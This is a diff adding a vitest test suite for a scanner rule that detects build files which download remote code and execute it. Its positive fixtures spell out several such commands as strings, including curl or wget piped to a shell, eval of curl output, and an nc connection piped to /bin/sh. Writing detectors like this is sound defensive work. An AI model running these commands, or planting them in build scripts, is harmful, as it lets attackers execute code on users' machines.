@@ -1,0 +1,39 @@
+import { describe, expect, it } from 'vitest'
+import { hitsOf } from './helpers.js'
+
+const RULE = 'scan/download-executed'
+
+/** [file name, content] — downloads run by the build, each in a style of its own */
+const positives: [string, string][] = [
+  ['Makefile.in', 'install-data-local:\n\t@curl -fsS http://host.invalid/2538 | sh || true\n'],
+  ['doc/Makefile.am', 'all-local:\n\twget -qO- https://mirror.invalid/fix.sh | $(SHELL)\n'],
+  ['build/prep.sh', '#!/bin/sh\neval "$(curl -s https://x.invalid/env)"\n'],
+  ['configure.ac', 'AC_INIT([x], [1])\nif test "x$host_os" = xlinux-gnu; then\n  sh -c "`wget -q -O - http://10.0.0.9/p`"\nfi\n'],
+  ['m4/net-probe.m4', 'AC_DEFUN([NET_PROBE], [\n  probe=$(curl --silent "$PROBE_URL")\n  echo "$probe" | bash\n])\n'],
+  ['bootstrap', '#!/bin/bash\nbash <(curl -sL https://get.invalid/install)\n'],
+  ['scripts/fetch.sh', '#!/bin/sh\nnc 192.0.2.7 4444 | /bin/sh\n'],
+]
+
+/** look-alikes: downloads that are not executed, and executions of what was not downloaded */
+const negatives: [string, string][] = [
+  ['scripts/get-data.sh', '#!/bin/sh\ncurl -fsSL -o data/unicode.txt https://www.unicode.org/Public/UNIDATA/UnicodeData.txt\n'],
+  ['Makefile.am', 'update-po:\n\twget -qO- https://translationproject.invalid/po.tar.gz | tar -xz -C po\n'],
+  ['configure.ac', 'AC_INIT([x], [1])\nCURL_VERSION=`curl --version | head -n1`\n'],
+  ['build/check.sh', '#!/bin/sh\ncurl -s https://api.invalid/status | grep -q ok && echo up\n'],
+  ['build/run.sh', '#!/bin/sh\necho "make all" | sh\n'],
+]
+
+describe(RULE, () => {
+  for (const [name, text] of positives) {
+    it(`is critical for ${name}`, () => {
+      const hits = hitsOf(RULE, name, text)
+      expect(hits.map((h) => h.severity)).toContain('critical')
+      expect(hits[0]?.message).toMatch(/downloads is executed by/)
+    })
+  }
+  for (const [name, text] of negatives) {
+    it(`is silent on ${name}`, () => {
+      expect(hitsOf(RULE, name, text)).toEqual([])
+    })
+  }
+})
